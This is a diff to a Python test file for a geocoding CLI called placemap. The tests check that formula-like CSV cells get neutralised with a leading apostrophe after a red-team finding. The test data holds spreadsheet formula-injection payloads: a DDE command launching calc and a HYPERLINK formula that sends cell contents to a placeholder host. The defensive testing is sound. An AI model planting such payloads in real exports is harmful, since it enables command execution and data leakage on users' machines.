@@ -261,7 +261,9 @@ def test_geocode_csv_makes_its_own_columns_safe_and_keeps_the_tables(run, tmp_pa
     assert len(rows) == 4
     df = pd.read_csv(out, dtype={"note": str})
     assert list(df["resolved_name"]) == ["'=cmd|'/C calc'!A0", "Homs", "Homs"]
-    assert list(df["note"]) == ["=1+2", "-5", "a\rb"]  # the table's own cells, as they were
+    # the table's own cells too (a CSV placemap writes starts no formula; red team round 2,
+    # R6: from JSON Lines or Parquet the cells had been in no spreadsheet); numbers stay
+    assert list(df["note"]) == ["'=1+2", "-5", "a\rb"]
     assert df["lon"].dtype == "float64" and df["lon"].iloc[0] == -36.5
     # JSON Lines are data, not a spreadsheet: written as they are
     r = run("geocode", table, "--column", "location", "--overlay", tmp_path / "evil.csv",
@@ -612,3 +614,17 @@ def test_a_file_where_a_folder_goes_is_named_so(run, tmp_path: Path) -> None:
     assert r.exit_code == 1
     where = out / "assets"
     assert r.output == f"placemap: error: {where}: is no folder, where placemap needs one\n"
+
+
+def test_geocode_csv_from_json_lines_starts_no_formula(run, tmp_path: Path) -> None:
+    # From JSON Lines (or Parquet) placemap makes the CSV: the table's formula cells were
+    # written bare (red team round 2, R6); plain numbers as text stay numbers
+    table = tmp_path / "t.jsonl"
+    row = {"location": "Homs", "note": '=HYPERLINK("http://x/?"&A1)', "n": "-2+3", "m": "-2.5"}
+    table.write_text(json.dumps(row) + "\n", "utf-8")
+    out = tmp_path / "g.csv"
+    r = run("geocode", table, "--column", "location", "-o", out)
+    assert r.exit_code == 0, r.output
+    with out.open(encoding="utf-8", newline="") as fh:
+        (got,) = list(csv.DictReader(fh))
+    assert got["note"] == "'" + row["note"] and got["n"] == "'-2+3" and got["m"] == "-2.5"
